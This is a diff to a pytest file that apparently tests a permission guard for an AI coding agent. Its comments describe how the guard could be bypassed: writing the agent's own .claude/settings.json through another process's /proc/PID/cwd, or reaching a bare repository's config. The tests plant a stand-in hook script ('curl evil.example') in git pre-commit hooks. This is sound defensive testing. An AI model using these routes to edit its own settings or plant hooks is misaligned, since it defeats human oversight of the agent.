@@ -15,14 +15,17 @@ from __future__ import annotations
 
 import json
 import subprocess
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
 
-from tests.test_gate_adversary_round3 import World3
+from tests.test_gate_adversary_round3 import WIDE_SCOPE, World3
 from tests.test_gate_adversary_round5_scope import SCOPE, _bash, _case, _check, world
 
 __all__ = ["world"]  # the module fixture, shared with round 5
+
+EVIL = "#!/bin/sh\ncurl evil.example\n"
 
 READ_WRITE = [
     _bash("cat <>.env", "deny"),
@@ -110,3 +113,87 @@ def test_zsh_readings_skip_what_zsh_does_not_read(
     world: World3, tool: str, tool_input: dict[str, Any], want: str
 ) -> None:
     _check(world, tool, tool_input, want)
+
+
+# A write whose file the guard cannot tell: another process's /proc/PID/cwd (the agent's
+# own Node process has the project as its cwd; `echo $PPID` names it) or more links than
+# are followed. path_variants answers None ("not known"), and the guard iterated
+# `None or ()`: nothing guarded, so a tool-wide Write or Edit allow (with no Edit deny rule
+# to make the unknown path asked) allowed /proc/PID/cwd/.claude/settings.json. Now such a
+# write is asked whatever the rules, and flagged as tampering for the file tools.
+
+
+@pytest.fixture(scope="module")
+def wide(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[World3, int]]:
+    made = World3(tmp_path_factory.mktemp("wide"), scope=WIDE_SCOPE, git=True)
+    (made.proj / ".claude").mkdir(exist_ok=True)
+    (made.proj / ".claude" / "settings.json").write_text("{}")
+    made.hook("Bash", {"command": "ls"}, 0)
+    sleeper = subprocess.Popen(["sleep", "600"], cwd=made.proj)
+    try:
+        yield made, sleeper.pid
+    finally:
+        sleeper.kill()
+        sleeper.wait()
+
+
+def _proc(path: str) -> str:
+    return "/proc/{pid}/cwd/" + path
+
+
+OTHER_PROC = [
+    _case("Write", {"file_path": _proc(".claude/settings.json"), "content": "{}"}, "ask"),
+    _case("Write", {"file_path": _proc(".git/hooks/pre-commit"), "content": EVIL}, "ask"),
+    _case("Write", {"file_path": _proc(".git/config"), "content": "[core]\n"}, "ask"),
+    _case("Write", {"file_path": _proc("notes.txt"), "content": "x"}, "ask"),
+    _case(
+        "Edit",
+        {"file_path": _proc(".claude/settings.json"), "old_string": "{", "new_string": "{ "},
+        "ask",
+    ),
+    _bash("echo '{}' > " + _proc(".claude/settings.json"), "ask"),
+    _bash("cp /dev/null " + _proc(".git/hooks/pre-push"), "ask"),
+    # the same files by their own names stay asked, and an ordinary write stays allowed
+    _case("Write", {"file_path": "{proj}/.claude/settings.json", "content": "{}"}, "ask"),
+    _case("Write", {"file_path": "{proj}/notes.txt", "content": "x"}, "allow"),
+    _case("Write", {"file_path": "/dev/null", "content": "x"}, "allow"),
+]
+
+
+@pytest.mark.parametrize(("tool", "tool_input", "want"), OTHER_PROC)
+def test_a_write_through_another_process_cwd_is_never_allowed(
+    wide: tuple[World3, int], tool: str, tool_input: dict[str, Any], want: str
+) -> None:
+    made, pid = wide
+    tool_input = {k: v.replace("{pid}", str(pid)) for k, v in tool_input.items()}
+    _check(made, tool, tool_input, want)
+
+
+# A bare repository beside the project: GitView.names gave bare.git/config the name
+# bare.git/.git/config, then that name bare.git/.git/.git/config, and so on, until
+# path_variants gave up at 16 names ("not known") and the write was allowed by Write.
+
+
+@pytest.mark.parametrize(
+    ("tool", "tool_input", "want"),
+    [
+        _case("Write", {"file_path": "{root}/bare.git/config", "content": "[core]\n"}, "ask"),
+        _case("Write", {"file_path": "{root}/bare.git/hooks/pre-commit", "content": EVIL}, "ask"),
+    ],
+)
+def test_a_bare_repository_config_is_named_once(
+    bare: World3, tool: str, tool_input: dict[str, Any], want: str
+) -> None:
+    _check(bare, tool, tool_input, want)
+
+
+@pytest.fixture(scope="module")
+def bare(tmp_path_factory: pytest.TempPathFactory) -> World3:
+    made = World3(tmp_path_factory.mktemp("bare"), scope=WIDE_SCOPE)
+    repo = made.proj.parent / "bare.git"
+    for sub in ("objects", "refs", "hooks"):
+        (repo / sub).mkdir(parents=True)
+    (repo / "HEAD").write_text("ref: refs/heads/main\n")
+    (repo / "config").write_text("[core]\n\tbare = true\n")
+    made.hook("Bash", {"command": "ls"}, 0)
+    return made
